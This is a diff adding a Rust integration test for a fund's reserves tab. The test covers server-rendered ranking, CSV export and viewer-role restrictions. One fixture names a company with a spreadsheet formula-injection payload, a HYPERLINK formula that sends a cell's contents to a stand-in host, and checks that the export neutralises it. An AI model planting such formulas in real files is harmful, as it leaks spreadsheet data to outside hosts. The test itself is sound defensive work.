@@ -401,3 +401,59 @@ async fn the_seeded_demo_fund_has_a_ranking_for_today_at_once() {
     assert!(report["excluded"].as_array().unwrap().iter().all(|e| !e["reason"].as_str().unwrap().is_empty()));
     assert_eq!(run.requested_by, "demo seed");
 }
+
+async fn page(router: &Router, token: &str, uri: &str) -> (StatusCode, String) {
+    let req = Request::get(uri).header("authorization", format!("Bearer {token}")).body(Body::empty()).unwrap();
+    let res = router.clone().oneshot(req).await.unwrap();
+    let status = res.status();
+    (status, String::from_utf8(res.into_body().collect().await.unwrap().to_bytes().to_vec()).unwrap())
+}
+
+#[tokio::test]
+async fn the_reserves_tab_renders_the_ranking_on_the_server_exports_csv_and_shares_it() {
+    let app = spawn_with(&[]).await;
+    let fund = portfolio(&app, 5).await;
+    // A company whose name a spreadsheet would run as a formula.
+    let start = common::days_ago(899);
+    let id = uuid::Uuid::new_v4().to_string();
+    let (s, v) = app.post(&format!("/api/funds/{fund}/events"), json!({"events": [
+        {"type": "COMPANY_ADDED", "effective_at": start, "payload": {"company_id": id, "name": "=HYPERLINK(\"https://x/?\"&B2,\"x\")", "stage": "Series A"}},
+        {"type": "INVESTMENT_MADE", "effective_at": start, "payload": {"company_id": id, "amount": "700000", "ownership": "0.08", "post_money": "9000000"}},
+    ]})).await;
+    assert_eq!(s, StatusCode::CREATED, "{v}");
+
+    // Opening the tab queues today's ranking; once computed the page shows it.
+    let uri = format!("/funds/{fund}/reserves");
+    let (s, first) = page(&app.router, &app.token, &uri).await;
+    assert_eq!(s, StatusCode::OK);
+    assert!(first.contains("data-test=\"pending-run\"") || first.contains("data-test=\"ranking-table\""), "{}", &first[..first.len().min(2000)]);
+    let deadline = Instant::now() + Duration::from_secs(60);
+    let body = loop {
+        let (_, body) = page(&app.router, &app.token, &uri).await;
+        if body.contains("data-test=\"ranking-table\"") {
+            break body;
+        }
+        assert!(Instant::now() < deadline, "the ranking never showed");
+        tokio::time::sleep(Duration::from_millis(50)).await;
+    };
+    for expected in ["Company 00", "data-test=\"insights\"", "data-test=\"allocation-chart\"", "data-test=\"calculate-form\"", "data-test=\"parameters\"", "written off", "class=\"interval\""] {
+        assert!(body.contains(expected), "the tab shows {expected}");
+    }
+    assert_eq!(app.count("reserve_runs").await, 1, "opening the tab again does not queue again");
+
+    let (s, csv) = app.get(&format!("/api/funds/{fund}/reserves.csv")).await;
+    assert_eq!(s, StatusCode::OK);
+    let csv = csv.as_str().unwrap().to_string();
+    assert!(csv.starts_with("rank,company,stage,follow_on_multiple"), "{csv}");
+    assert!(csv.contains("'=HYPERLINK"), "formula neutralised: {csv}");
+    assert!(!csv.lines().any(|l| l.split(',').nth(1).is_some_and(|c| c.trim_matches('"').starts_with('='))), "{csv}");
+
+    // A viewer sees the ranking but no Calculate form, and cannot start a run.
+    let viewer = common::create_user(&app.store, "viewer@test.local").await;
+    app.store.grant_role(fund.parse().unwrap(), viewer.id, domain::access::Role::Viewer).await.unwrap();
+    let (_, viewer_token) = app.store.create_api_token(viewer.id, "t", domain::access::Role::Admin).await.unwrap();
+    let (_, as_viewer) = page(&app.router, &viewer_token, &uri).await;
+    assert!(as_viewer.contains("data-test=\"ranking-table\"") && !as_viewer.contains("data-test=\"calculate-form\""));
+    let (s, _) = app.call_as(Some(&viewer_token), "POST", &format!("/api/funds/{fund}/reserves/runs"), Some(json!({}))).await;
+    assert_eq!(s, StatusCode::FORBIDDEN);
+}
